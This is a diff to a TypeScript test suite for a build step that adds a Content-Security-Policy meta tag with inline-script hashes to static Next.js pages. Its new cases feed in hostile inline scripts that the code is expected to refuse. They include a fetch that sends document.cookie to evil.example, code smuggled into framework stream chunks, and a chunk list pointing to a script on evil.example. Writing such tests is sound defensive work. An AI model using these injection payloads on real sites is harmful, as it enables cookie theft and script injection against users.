@@ -84,24 +84,50 @@ describe('CSP', () => {
 describe('inline script hashes and the CSP <meta>', () => {
   const page = (body: string) => `<!DOCTYPE html><html><head><meta charSet="utf-8"/><title>t</title></head><body>${body}</body></html>`;
 
-  it('hashes every inline script by its raw text, and no script with src', () => {
-    const html = page('<script>a&amp;&lt;b</script><script src="/x.js"></script><script type="application/ld+json">{"a":1}</script><script></script>');
-    expect(inlineScriptHashes(html)).toEqual([sha('a&amp;&lt;b'), sha('{"a":1}'), sha('')]);
+  it("hashes the site's scripts (by text) and the framework's (by shape), by their raw text, and no script with src", () => {
+    const site = new Set(['a&amp;&lt;b', "alert('Hello, world.');"]);
+    const framework = [
+      '(self.__next_f=self.__next_f||[]).push([0])',
+      'self.__next_f.push([1,"1:\\"$Sreact.fragment\\"\\n"])',
+      '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":["static/chunks/3m-sk004gdwmy.js"],"runtimeModuleIds":[94553]});',
+    ];
+    const html = page(`<script>a&amp;&lt;b</script><script src="/x.js"></script>${framework.map((f) => `<script>${f}</script>`).join('')}`);
+    expect(inlineScriptHashes(html, site)).toEqual([sha('a&amp;&lt;b'), ...framework.map(sha)]);
     // Known value: the CSP3 spec's example, sha256 of `alert('Hello, world.');`.
-    expect(inlineScriptHashes(page("<script>alert('Hello, world.');</script>"))).toEqual(["'sha256-qznLcsROx4GACP2dm0UCKCzCG+HiZ1guq6ZZDob/Tng='"]);
+    expect(inlineScriptHashes(page("<script>alert('Hello, world.');</script>"), site)).toEqual(["'sha256-qznLcsROx4GACP2dm0UCKCzCG+HiZ1guq6ZZDob/Tng='"]);
+  });
+
+  it.each([
+    ['a script of nobody', '<script>fetch("https://evil.example/?c="+document.cookie)</script>'],
+    ['a stream chunk with code after its string', '<script>self.__next_f.push([1,"x"]);alert(1)</script>'],
+    ['a stream chunk whose string closes early', '<script>self.__next_f.push([1,"x"+alert(1)+"y"])</script>'],
+    [
+      'a chunk list naming a script elsewhere',
+      '<script>(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":["https://evil.example/x.js"],"runtimeModuleIds":[1]});</script>',
+    ],
+    [
+      'a chunk list with another key',
+      '<script>(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":[],"runtimeModuleIds":[],"x":1});</script>',
+    ],
+    ['a module script', '<script type="module">alert(1)</script>'],
+  ])('refuses %s, naming the page and the script', (_name, script) => {
+    expect(() => withCspMeta(page(script), bare, new Set(), 'guide/x.html')).toThrow(
+      /^guide\/x\.html: 1 inline <script> not emitted by the site's layout or by Next\.js, so the CSP will not trust it: /,
+    );
   });
 
   it('adds the page policy right after <meta charSet>, before every script, once', () => {
     const html = page('<script>window.boot = 1</script>');
-    const once = withCspMeta(html, bare);
+    const site = new Set(['window.boot = 1']);
+    const once = withCspMeta(html, bare, site);
     expect(once.startsWith('<!DOCTYPE html><html><head><meta charSet="utf-8"/><meta http-equiv="Content-Security-Policy" content="default-src')).toBe(true);
     expect(once).toContain(`script-src 'self' 'wasm-unsafe-eval' ${sha('window.boot = 1')};`);
-    expect(withCspMeta(once, bare)).toBe(once);
+    expect(withCspMeta(once, bare, site)).toBe(once);
     expect(once.replace(/<meta http-equiv[^>]*>/, '')).toBe(html);
   });
 
   it('refuses a page without <head>', () => {
-    expect(() => withCspMeta('<p>x</p>', bare, 'x.html')).toThrow(/x\.html: no <head>/);
+    expect(() => withCspMeta('<p>x</p>', bare, new Set(), 'x.html')).toThrow(/x\.html: no <head>/);
   });
 });
 
